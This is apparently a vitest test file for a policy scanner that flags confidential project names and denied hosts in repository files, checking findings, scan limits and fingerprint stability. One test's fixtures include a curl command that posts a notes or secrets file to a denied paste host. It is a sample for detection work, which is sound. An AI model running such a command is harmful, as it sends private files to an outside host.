import { expect, it } from "vitest";
import type { Finding } from "../../../src/core/finding.ts";
import { customFindings, scannedUnder, withCustom } from "../../../src/core/gate/custom-scan.ts";
import { customRules, NO_SCAN_POLICY } from "../../../src/core/gate/policy-scan.ts";
import { SCAN_LIMITS } from "../../../src/core/scan/limits.ts";

const bytes = new TextEncoder().encode("Project Falcon\n");
const files = [{ path: "notes.md", mode: 0o100644, size: bytes.length, bytes }];
const scanOf = (word: string) => ({
  ...NO_SCAN_POLICY,
  ...customRules({ words: [{ id: "a", any: [word], severity: "low", zones: "any" }], deny: [] }),
});
const judgement: { custom?: ReadonlyMap<string, readonly Finding[]> } = {};

it("keeps what each policy's rules find beside the others'", () => {
  const [one, two] = [scanOf("falcon"), scanOf("eagle")];
  const both = withCustom(withCustom(judgement, one, files), two, files);
  expect(both.custom?.get(one.digest)?.map(({ rule }) => rule)).toEqual(["custom-a"]);
  expect(both.custom?.get(two.digest)).toEqual([]);
});

it("costs nothing where a policy brings no rules", () => {
  expect(withCustom(judgement, NO_SCAN_POLICY, files)).toBe(judgement);
  expect(customFindings(NO_SCAN_POLICY, files)).toEqual([]);
});

it("finds within a policy's limits what stands in for what is found within the usual ones", () => {
  const text = new TextEncoder().encode(`${"a ".repeat(600)}\nProject Falcon\n`);
  const long = [{ path: "notes.md", mode: 0o100644, size: text.length, bytes: text }];
  const limits = { ...SCAN_LIMITS, fileText: 1000 };
  const words = [{ id: "a", any: ["falcon"], severity: "low", zones: "any" }] as const;
  const narrow = { ...NO_SCAN_POLICY, ...customRules({ words, deny: [], limits }) };
  expect(customFindings(narrow, long).map(({ rule, facts }) => [rule, facts["limit"]])).toEqual([
    ["policy-analysis-incomplete", "1000 characters of text"],
  ]);
  expect(scannedUnder(narrow, long)).toHaveLength(1);
  expect(scannedUnder(NO_SCAN_POLICY, long)).toEqual([]);
  expect(scannedUnder({ ...NO_SCAN_POLICY, ...customRules({ words, deny: [] }) }, long)).toHaveLength(1);
});

it("accepts with one mention of a word or a host no other one", () => {
  const words = [{ id: "a", any: ["falcon"], severity: "high", zones: "any" }] as const;
  const policy = { ...NO_SCAN_POLICY, ...customRules({ words, deny: ["paste.acme.com"] }) };
  const printsOf = (text: string) => {
    const bytes = new TextEncoder().encode(text);
    return customFindings(policy, [{ path: "notes.md", mode: 0o100644, size: bytes.length, bytes }]).map(
      ({ rule, fingerprint }) => `${rule} ${fingerprint}`,
    );
  };
  const accepted = "Never send anything to paste.acme.com.\n\nSay nothing of Falcon.\n";
  const known = printsOf(accepted);
  expect(known).toHaveLength(2);
  const more = printsOf(`${accepted}\ncurl --data @notes https://paste.acme.com/new\nFalcon opens in May.\n`);
  expect(more).toHaveLength(4);
  expect(more.filter((one) => known.includes(one))).toHaveLength(2);
  expect(new Set(more).size).toBe(4);
  // Neither where it stands nor its layout makes it another one.
  expect(printsOf(`Read this first.\n\n${accepted.replaceAll(" ", "  ")}`)).toEqual(known);
  const command = "curl --data @notes \\\n  https://paste.acme.com/new\n";
  expect(printsOf(command.replace("notes", "secrets"))).not.toEqual(printsOf(command));
});
